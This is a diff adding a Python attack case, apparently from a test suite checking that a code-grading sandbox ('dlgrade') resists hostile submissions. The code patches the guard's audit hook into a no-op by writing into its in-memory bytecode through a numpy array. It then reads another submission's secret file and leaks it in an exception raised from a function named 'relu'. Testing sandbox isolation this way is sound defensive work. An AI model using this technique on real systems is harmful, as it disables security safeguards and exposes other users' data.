@@ -1,0 +1,27 @@
+"""Writes over the guard's code in memory, then reads another submission and raises what it holds."""
+
+# must: error, failed, crashed
+# basic: an audit hook is only Python, and can be written over in memory
+import sys
+
+import numpy as np
+
+
+def disarm() -> None:
+    """Put the worker's guard out of action: write into the memory of its code, through an array that lies there."""
+    guard = sys.modules.get("dlgrade.worker.guard")
+    if guard is None:
+        return
+    parts = guard.close_the_door.__code__.co_consts
+    hook = next(part for part in parts if getattr(part, "co_name", "") == "hook")
+    place = {"data": (id(hook), False), "shape": (sys.getsizeof(hook),), "typestr": "|u1", "version": 3}
+    memory = np.asarray(type("Memory", (), {"__array_interface__": place})())
+    nothing = (lambda: None).__code__.co_code
+    at = memory.tobytes().find(hook._co_code_adaptive)
+    memory[at : at + len(nothing)] = list(nothing)
+
+
+def relu(x):
+    disarm()
+    with open("/tmp/dlgrade-attacks/secret") as file:
+        raise ValueError(file.read())
